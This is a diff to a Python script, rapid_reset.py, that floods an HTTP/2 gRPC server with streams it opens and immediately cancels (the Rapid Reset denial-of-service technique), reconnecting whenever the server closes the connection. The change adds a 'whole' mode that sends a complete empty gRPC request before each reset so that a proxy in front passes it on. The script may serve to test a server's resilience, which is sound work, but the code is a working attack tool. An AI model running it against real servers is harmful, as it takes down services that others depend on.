@@ -8,7 +8,11 @@ the server closes a connection it opens the next, as a determined attacker
 would. Prints how many streams it reset and how many connections it used:
 "reset=N connections=M". Debian's python3-h2 speaks the protocol.
 
-Usage: rapid_reset.py HOST PORT METHOD SECONDS
+With MODE `whole`, each stream carries a whole request (its headers and an
+empty message, ended) before it is reset, so that a proxy in front passes
+it on; `headers` (the default) resets right after the headers.
+
+Usage: rapid_reset.py HOST PORT METHOD SECONDS [MODE]
 """
 import select
 import socket
@@ -21,7 +25,11 @@ import h2.errors
 import h2.exceptions
 
 
-def attack(host, port, headers, end):
+# A request message of zero bytes, gRPC-framed.
+EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"
+
+
+def attack(host, port, headers, end, whole):
     """Resets streams on one connection until `end` or until the server
     closes it; returns how many."""
     try:
@@ -37,6 +45,8 @@ def attack(host, port, headers, end):
             try:
                 stream = conn.get_next_available_stream_id()
                 conn.send_headers(stream, headers)
+                if whole:
+                    conn.send_data(stream, EMPTY_MESSAGE, end_stream=True)
                 conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
                 reset += 1
             except h2.exceptions.NoAvailableStreamIDError:
@@ -60,13 +70,14 @@ def attack(host, port, headers, end):
 
 def main():
     host, port, method, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
+    whole = len(sys.argv) > 5 and sys.argv[5] == "whole"
     headers = [(":method", "POST"), (":scheme", "http"), (":path", method),
                (":authority", f"{host}:{port}"), ("content-type", "application/grpc"),
                ("te", "trailers")]
     reset = connections = 0
     end = time.monotonic() + seconds
     while time.monotonic() < end:
-        reset += attack(host, port, headers, end)
+        reset += attack(host, port, headers, end, whole)
         connections += 1
     print(f"reset={reset} connections={connections}", flush=True)
 
